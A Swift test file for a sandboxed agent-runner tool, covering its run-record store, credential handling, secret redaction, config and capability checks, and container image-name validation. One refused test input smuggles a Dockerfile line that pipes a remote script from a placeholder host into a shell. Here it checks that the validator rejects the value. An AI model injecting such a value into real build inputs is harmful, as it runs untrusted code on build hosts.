import Foundation
import PatinaModelProxy
import Testing
@testable import PatinaCore

@Suite struct RunRecordTests {
    static func sample(id: String = "20261121-040000-demo-abcd") -> RunRecord {
        var r = RunRecord(
            id: id, task: "demo", status: .timedOut, reason: "stopped", branch: "patina/\(id)",
            baseCommit: String(repeating: "a", count: 40), headCommit: String(repeating: "b", count: 40),
            repository: "/r", worktree: "/w", runDir: "/d", sessionLog: "/d/session.jsonl", transcript: nil,
            started: Date(timeIntervalSince1970: 1_795_000_000), finished: Date(timeIntervalSince1970: 1_795_000_012),
            durationS: 12, costUSD: 0.25, numTurns: 3, tokens: TokenCounts(), model: nil, maxTurns: nil,
            timeoutS: 20, image: nil, baseImage: "debian:bookworm-slim", exitCode: 137, claudeSessionID: nil)
        r.filesChanged = [FileChangeRecord(path: "a.txt", additions: 3, deletions: 1, status: "added")]
        return r
    }

    @Test func jsonUsesTheDocumentedKeys() throws {
        let object = try JSONSerialization.jsonObject(with: Data(Self.sample().json().utf8)) as! [String: Any]
        for key in ["id", "task", "status", "branch", "base_commit", "head_commit", "worktree", "run_dir",
                    "session_log", "started", "finished", "duration_s", "cost_usd", "num_turns", "tokens", "files_changed"] {
            #expect(object[key] != nil, "missing \(key)")
        }
        #expect(object["status"] as? String == "timed_out")
        let file = (object["files_changed"] as? [[String: Any]])?.first
        #expect(file?["additions"] as? Int == 3)
        #expect(file?["deletions"] as? Int == 1)
    }

    @Test func optionsWrittenBeforeTheSandboxFlagsStillDecode() throws {
        let old = #"{"task": "t", "allow": [], "presets": [], "noFirewall": false, "quiet": false, "json": false}"#
        let options = try JSONDecoder().decode(YoloOptions.self, from: Data(old.utf8))
        #expect(options.task == "t" && options.devcontainer == nil && !options.noAutoPresets && !options.noHostCA)
        var flags = YoloOptions(task: "t2")
        flags.devcontainer = "gpu"
        flags.noHostCA = true
        let merged = options.overridden(by: flags)
        #expect(merged.devcontainer == "gpu" && merged.noHostCA && !merged.noAutoPresets)
        let again = try JSONDecoder().decode(YoloOptions.self, from: try JSONEncoder().encode(merged))
        #expect(again == merged)
    }

    @Test func roundTripsThroughTheStore() throws {
        let home = FileManager.default.temporaryDirectory.appendingPathComponent("store-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: home) }
        let store = RunStore(home: home, repositoryCommonDirectory: URL(fileURLWithPath: "/tmp/some/repo/.git"))
        #expect(store.repositoryKey.hasPrefix("repo-"))
        try store.save(Self.sample(id: "20261121-040000-demo-abcd"))
        try store.save(Self.sample(id: "20261121-050000-later-wxyz"))
        let listed = store.list()
        #expect(listed.map(\.id) == ["20261121-050000-later-wxyz", "20261121-040000-demo-abcd"])
        #expect(try store.resolve("latest").id == "20261121-050000-later-wxyz")
        #expect(try store.resolve("demo").id == "20261121-040000-demo-abcd")
        #expect(throws: RunStore.StoreError.self) { try store.resolve("20261121") }
        #expect(throws: RunStore.StoreError.self) { try store.resolve("nope") }
        let loaded = try store.load("20261121-040000-demo-abcd")
        #expect(loaded.status == .timedOut)
        #expect(loaded.started == Date(timeIntervalSince1970: 1_795_000_000))
    }

    @Test func runningRunsAndPendingMarks() throws {
        let home = FileManager.default.temporaryDirectory.appendingPathComponent("store-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: home) }
        let store = RunStore(home: home, repositoryCommonDirectory: URL(fileURLWithPath: "/tmp/some/repo/.git"))
        var running = Self.sample(id: "20261121-060000-live-efgh")
        running.status = .running
        var mentions = Self.sample(id: "20261121-070000-word-ijkl")
        mentions.task = "say \"running\" in the reason"
        try store.save(Self.sample(id: "20261121-040000-demo-abcd"))
        try store.save(running)
        try store.save(mentions)
        #expect(store.running().map(\.id) == ["20261121-060000-live-efgh"])

        #expect(store.pending().isEmpty)
        try store.markPending("20261121-080000-early-mnop", pid: 4242)
        #expect(store.pending().map(\.id) == ["20261121-080000-early-mnop"])
        #expect(store.pending().first?.pid == 4242)
        #expect(store.pending().first?.host == RunExecutor.thisHost)
        store.clearPending("20261121-080000-early-mnop")
        #expect(store.pending().isEmpty)
        // A pid of another host (a Slurm node sharing the store) says which host it is of.
        try store.markPending("20261121-080000-early-mnop", pid: 7, host: "node12")
        #expect(store.pending().first?.host == "node12")

        // Containers left on a host, for that host's next patina command only.
        try store.markLeft("20261121-060000-live-efgh", onHost: "node12")
        #expect(store.leftOnHost("node12") == ["20261121-060000-live-efgh"])
        #expect(store.leftOnHost().isEmpty)
        store.clearLeft("20261121-060000-live-efgh", onHost: "node12")
        #expect(store.leftOnHost("node12").isEmpty)
    }

    /// Recovery reads the marked records only: a mark is made before a running record is
    /// written and goes with its final one; a store from before the marks is read whole once.
    @Test func runningRecordsAreMarkedAndOnlyTheMarkedAreRead() throws {
        let home = FileManager.default.temporaryDirectory.appendingPathComponent("store-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: home) }
        let store = RunStore(home: home, repositoryCommonDirectory: URL(fileURLWithPath: "/tmp/some/repo/.git"))
        let marks = { (try? FileManager.default.contentsOfDirectory(atPath: store.runningDirectory.path).sorted()) ?? [] }
        var live = Self.sample(id: "20261121-060000-live-efgh")
        live.status = .running
        try store.save(live)
        #expect(marks() == [live.id])
        #expect(store.running().map(\.id) == [live.id])
        live.status = .succeeded
        try store.save(live)
        #expect(marks().isEmpty)
        #expect(store.running().isEmpty)

        // A record that says running without a mark is not read: the marks are what counts.
        var unmarked = Self.sample(id: "20261121-090000-unmarked-qrst")
        unmarked.status = .running
        try Data(unmarked.json().utf8).write(to: store.recordURL(unmarked.id).creatingParent())
        #expect(store.running().isEmpty)

        // A mark whose record finished (written by hand, as a crash between the two would
        // leave it) goes; one without a record stays while it is young.
        try Data().write(to: store.runningDirectory.appendingPathComponent(live.id))
        try Data().write(to: store.runningDirectory.appendingPathComponent("20261121-100000-soon-uvwx"))
        #expect(store.running().isEmpty)
        #expect(marks() == ["20261121-100000-soon-uvwx"])
        try FileManager.default.setAttributes([.modificationDate: Date().addingTimeInterval(-120)],
                                              ofItemAtPath: store.runningDirectory.appendingPathComponent("20261121-100000-soon-uvwx").path)
        _ = store.running()
        #expect(marks().isEmpty)

        // A store written before the marks: read whole once, and its running records marked.
        try FileManager.default.removeItem(at: store.runningDirectory)
        #expect(store.running().map(\.id) == [unmarked.id])
        #expect(marks() == [unmarked.id])
    }
}

private extension URL {
    func creatingParent() throws -> URL {
        try FileManager.default.createDirectory(at: deletingLastPathComponent(), withIntermediateDirectories: true)
        return self
    }
}

@Suite struct CredentialsTests {
    @Test func missingCredentialsNamesTheVariables() {
        #expect {
            try Credentials(environment: ["ANTHROPIC_BASE_URL": "http://x:1"])
        } throws: { error in
            let text = "\(error)"
            return text.contains("ANTHROPIC_API_KEY") && text.contains("CLAUDE_CODE_OAUTH_TOKEN")
        }
    }

    @Test func baseURLIsTheProxysUpstream() throws {
        let c = try Credentials(environment: ["ANTHROPIC_API_KEY": "k", "ANTHROPIC_BASE_URL": "http://172.17.0.1:4321", "ANTHROPIC_MODEL": "m"])
        #expect(c.baseURL.absoluteString == "http://172.17.0.1:4321")
        #expect(c.variable == "ANTHROPIC_API_KEY" && c.upstream.scheme == .apiKey)
        #expect(c.passThrough == ["ANTHROPIC_MODEL"])
        // The value never shows in a description.
        #expect(!"\(c.upstream)".contains("k "))
    }

    @Test func defaultEndpointAndOAuth() throws {
        let c = try Credentials(environment: ["CLAUDE_CODE_OAUTH_TOKEN": "sk-ant-oat01-token"])
        #expect(c.baseURL.absoluteString == "https://api.anthropic.com")
        #expect(c.usesOAuth && c.variable == "CLAUDE_CODE_OAUTH_TOKEN" && c.upstream.scheme == .bearer)
        #expect(c.secretValues == ["sk-ant-oat01-token"])
    }

    @Test func anAPIKeyWinsOverTokensAndEveryValueIsASecret() throws {
        let c = try Credentials(environment: ["CLAUDE_CODE_OAUTH_TOKEN": "oauth-token-1", "ANTHROPIC_API_KEY": "api-key-12", "ANTHROPIC_AUTH_TOKEN": "auth-token-1"])
        #expect(c.variable == "ANTHROPIC_API_KEY" && !c.usesOAuth)
        #expect(Set(c.secretValues) == ["oauth-token-1", "api-key-12", "auth-token-1"])
        let bearer = try Credentials(environment: ["ANTHROPIC_AUTH_TOKEN": "auth-token-1"])
        #expect(bearer.variable == "ANTHROPIC_AUTH_TOKEN" && bearer.upstream.scheme == .bearer)
    }

    @Test("bad base URLs", arguments: ["ftp//nope", "ftp://example.com", "http://", "example.com", "https://h/?q=1"])
    func badBaseURL(url: String) {
        #expect(throws: PlanError.self) { try Credentials(environment: ["ANTHROPIC_API_KEY": "k", "ANTHROPIC_BASE_URL": url]) }
    }
}

@Suite struct BudgetTests {
    @Test("budgets in dollars", arguments: [("2.50", 2.5), ("$3", 3.0), (" 0.01 ", 0.01), (".5", 0.5)])
    func good(text: String, value: Double) throws {
        #expect(try Budget.parse(text, setting: "--max-cost") == value)
    }

    @Test("not a budget", arguments: ["0", "-1", "abc", "1e3", "nan", "inf", "", "$", "1,5", "0.00"])
    func bad(text: String) {
        #expect {
            try Budget.parse(text, setting: "--max-cost")
        } throws: { "\($0)".contains("--max-cost must be a positive number of US dollars") }
    }
}

@Suite struct RedactorTests {
    @Test func recordsEventsAndFilesAreRedacted() throws {
        let redactor = Redactor(secrets: ["sk-ant-secret-1234", "short"])
        #expect(redactor("key sk-ant-secret-1234 and short") == "key [redacted] and [redacted]")
        var record = RunRecord(
            id: "r", task: "use sk-ant-secret-1234", status: .failed, reason: "stderr: sk-ant-secret-1234", branch: "b",
            baseCommit: "0", headCommit: nil, repository: "/r", worktree: "/w", runDir: "/d", sessionLog: "/d/s", transcript: nil,
            started: Date(timeIntervalSince1970: 0), finished: nil, durationS: nil, costUSD: 1, numTurns: 2, tokens: nil,
            model: nil, maxTurns: nil, timeoutS: 60, image: nil, baseImage: "i", exitCode: nil, claudeSessionID: nil)
        record.createdNothing = true
        let clean = redactor(record)
        #expect(clean.task == "use [redacted]" && clean.reason == "stderr: [redacted]" && clean.costUSD == 1 && clean.createdNothing)
        if case .warning(let text) = redactor.event(.warning("saw sk-ant-secret-1234")) { #expect(text == "saw [redacted]") } else { Issue.record("not a warning") }
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("scrub-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: file) }
        try Data("a sk-ant-secret-1234 b".utf8).write(to: file)
        redactor.scrub(file)
        #expect(try String(contentsOf: file, encoding: .utf8) == "a [redacted] b")
    }
}

@Suite struct ConfigTests {
    @Test func loadsAndReportsBadTypes() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("cfg-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        #expect(try PatinaConfig.load(from: dir) == PatinaConfig())
        try Data(#"{"allow":["pypi.org"],"max_turns":5,"limits":{"memory":"2g"},"seccomp":{"relax":["ptrace"]}}"#.utf8)
            .write(to: dir.appendingPathComponent("config.json"))
        let config = try PatinaConfig.load(from: dir)
        #expect(config.allow == ["pypi.org"])
        #expect(config.maxTurns == 5)
        #expect(config.limits?.memory == "2g")
        #expect(config.seccomp?.relax == ["ptrace"])
        try Data(#"{"allow":"pypi.org"}"#.utf8).write(to: dir.appendingPathComponent("config.json"))
        #expect { try PatinaConfig.load(from: dir) } throws: { "\($0)".contains("\"allow\"") }
        try Data("{nope".utf8).write(to: dir.appendingPathComponent("config.json"))
        #expect { try PatinaConfig.load(from: dir) } throws: { "\($0)".contains("not valid JSON") }
    }
}

@Suite struct CapabilitiesTests {
    @Test func namesAreValidatedAndMasked() throws {
        #expect(try Capabilities.validate(["net_bind_service", "CAP_CHOWN"]) == ["NET_BIND_SERVICE", "CHOWN"])
        #expect(Capabilities.mask([]) == "0000000000000000")
        #expect(Capabilities.mask(["NET_BIND_SERVICE"]) == "0000000000000400")
        #expect(Capabilities.mask(["CHOWN", "BPF"]) == "0000008000000001")
        #expect { try Capabilities.validate(["FLY"]) } throws: { "\($0)".contains("\"FLY\"") }
        #expect { try Capabilities.validate(["SYS_ADMIN"]) } throws: { "\($0)".contains("refused") }
    }
}

@Suite struct ImageReferenceTests {
    @Test(arguments: [
        "debian:bookworm-slim", "patina-test/bookworm:minbase", "registry.example:5000/team/image:tag",
        "localhost:5000/x", "a/b/c:1.0", "my_image__x", "ghcr.io/org/img-name:v1.2.3-rc_1",
        "ubuntu@sha256:" + String(repeating: "ab", count: 32), "debian:12@sha256:" + String(repeating: "0", count: 64),
    ])
    func accepted(_ image: String) throws {
        try Planner.validateImageReference(image)
    }

    @Test(arguments: [
        "Not An Image!", "debian:bookworm\nRUN curl http://x | sh", "reg.io:5000/x\nRUN x", "debian bookworm",
        "upper/CASE", "-lead", "x:", "x:tag with space", "", "x::y", "x@sha256:short", "a//b", "x:\u{1B}[31m",
    ])
    func refused(_ image: String) {
        #expect(throws: PlanError.self) { try Planner.validateImageReference(image) }
    }
}
